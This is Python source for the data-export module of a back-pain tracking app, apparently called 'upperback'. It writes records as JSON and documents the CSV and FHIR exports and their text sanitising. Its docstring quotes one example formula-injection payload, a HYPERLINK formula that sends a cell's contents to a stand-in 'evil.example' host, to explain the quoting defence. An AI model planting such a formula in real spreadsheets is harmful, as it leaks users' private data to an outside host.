"""Your data, out: JSON (everything), CSV (a table per kind of record) and FHIR R4B (for a
clinic's records).

- JSON (`write_json`, here): everything as saved, which `upperback` can read back. Fields may
  be added in later versions, never renamed or removed.
- CSV (`csv_export.py`): `checks.csv`, `answers.csv`, `entries.csv`, `medicines.csv`,
  `timers.csv`, in one zip (`write_csv_zip`) or one at a time (`write_csv`).
- FHIR (`fhir_export.py`): a Bundle of type "collection": an optional Patient, a
  QuestionnaireResponse and a RiskAssessment per check, an Observation per diary entry, a
  MedicationStatement per dose and a Procedure per timer session (`write_fhir`).

Stored text is never trusted: an old row (or a database edited by hand) may hold anything. So:

- Every export is valid UTF-8. A lone surrogate (which UTF-8 cannot hold) becomes U+FFFD,
  undecodable bytes are decoded with U+FFFD, and a value of an unexpected type is written as
  its text (`unicode_text`).
- JSON keeps everything else as it was: control characters are written as \\u escapes
  (DEL and the C1 controls too, so that the export printed on a terminal cannot drive it), and
  a number that is not finite (NaN, infinity; not valid JSON) becomes null.
- CSV and FHIR drop terminal escape sequences and control characters other than tab, newline
  and carriage return (`plain_text`). FHIR strings also lose white space at either end; a note
  or an answer left empty is left out, and an answer key left empty becomes U+FFFD.
- CSV formula injection: a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and
  some also one that begins with a tab or a carriage return) as a formula, e.g. a diary note of
  `=HYPERLINK("http://evil.example/?d="&A2,"x")`. As OWASP advises, every text cell that begins
  with one of those characters is written with a single quote before it (`'=HYPERLINK(...`),
  which makes it text; strip that one leading quote to read the words back. Numbers (the id,
  pain, minutes and seconds columns) are written as numbers, a negative one included: only text
  cells are changed.
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterable
from datetime import UTC, datetime
from typing import Any, TextIO

from .. import __version__
from ..knowledge_base import KnowledgeBase
from ..store import CheckRecord, DiaryEntry, MedicineDose, Store, TimerSession
from ..store.records import ExerciseSession
from ..trend import TREND_ENTRIES, pain_trend
from .csv_export import (
    CSV_COLUMNS,
    CSV_KINDS,
    check_csv_kind,
    export_csv,
    export_csv_zip,
    write_csv,
    write_csv_zip,
)
from .export_text import (
    answer_text,
    csv_cell,
    json_value,
    plain_text,
    unicode_text,
    utc_time,
    write_json_head,
)
from .fhir_export import (
    PatientDetails,
    export_fhir,
    fhir_bundle,
    medication_statement,
    pain_observation,
    patient_details,
    questionnaire_response,
    risk_assessment,
    timer_procedure,
    write_fhir,
)

__all__ = [
    "CSV_COLUMNS", "CSV_KINDS", "EXPORT_FORMAT", "EXPORT_VERSION", "PatientDetails",
    "answer_text", "check_csv_kind", "check_dict", "csv_cell", "dose_dict", "entry_dict",
    "export_csv", "export_csv_zip", "export_fhir", "export_json", "fhir_bundle",
    "medication_statement", "pain_observation", "patient_details", "plain_text",
    "questionnaire_response", "risk_assessment", "timer_dict", "timer_procedure",
    "unicode_text", "write_csv", "write_csv_zip", "write_fhir", "write_json",
]

EXPORT_FORMAT = "upperback-export"
EXPORT_VERSION = 1


def check_dict(check: CheckRecord) -> dict[str, Any]:
    """A saved check as JSON-ready data."""
    return {
        "id": check.id,
        "created_at": utc_time(check.created_at),
        "version": check.version,
        "answers": check.answers,
        "result": check.result,
    }


def entry_dict(entry: DiaryEntry) -> dict[str, Any]:
    """A diary entry as JSON-ready data."""
    return entry.as_dict() | {"created_at": utc_time(entry.created_at)}


def timer_dict(timer: TimerSession) -> dict[str, Any]:
    """A timer session as JSON-ready data."""
    return timer.as_dict() | {"started_at": utc_time(timer.started_at)}


def dose_dict(dose: MedicineDose) -> dict[str, Any]:
    """A medicine dose as JSON-ready data."""
    return dose.as_dict() | {"taken_at": utc_time(dose.taken_at)}


def exercise_dict(session: ExerciseSession) -> dict[str, Any]:
    """An exercise session as JSON-ready data."""
    return session.as_dict() | {"started_at": utc_time(session.started_at)}


def _trend_dict(store: Store, kb: KnowledgeBase) -> dict[str, Any] | None:
    verdict = pain_trend(store.pain_scores(TREND_ENTRIES), kb)
    if verdict is None:
        return None
    return {
        "kind": verdict.kind,
        "message": verdict.message,
        "level": verdict.level,
        "sources": list(verdict.sources),
    }


def write_json(store: Store, kb: KnowledgeBase, out: TextIO) -> None:
    """Everything saved, as one JSON document (checks, diary, timers, medicines, exercise
    sessions, breaks, and the diary's trend),
    written to `out` a record at a time: memory stays the same however big the diary."""
    head = {
        "format": EXPORT_FORMAT,
        "format_version": EXPORT_VERSION,
        "upperback_version": __version__,
        "exported_at": utc_time(datetime.now(UTC)),
        "disclaimer": kb.guide.disclaimer,
    }
    write_json_head(out, head)
    lists: tuple[tuple[str, Iterable[dict[str, Any]]], ...] = (
        ("checks", (check_dict(check) for check in store.each_check())),
        ("diary", (entry_dict(entry) for entry in store.each_entry())),
        ("timers", (timer_dict(timer) for timer in store.each_timer())),
        ("medicines", (dose_dict(dose) for dose in store.each_dose())),
        ("exercise_sessions", (exercise_dict(session)
                               for session in store.each_exercise_session())),
        ("breaks", ({"started_at": utc_time(moment), "seconds": seconds}
                    for moment, seconds in store.each_break())),
    )
    for name, items in lists:
        out.write(f"  {json.dumps(name)}: [")
        separator = "\n"
        for item in items:
            out.write(f"{separator}    {json_value(item, 4)}")
            separator = ",\n"
        out.write("\n  ],\n" if separator == ",\n" else "],\n")
    out.write(f'  "trend": {json_value(_trend_dict(store, kb), 2)}\n}}\n')


def export_json(store: Store, kb: KnowledgeBase) -> str:
    """`write_json` as text."""
    buffer = io.StringIO()
    write_json(store, kb, buffer)
    return buffer.getvalue()
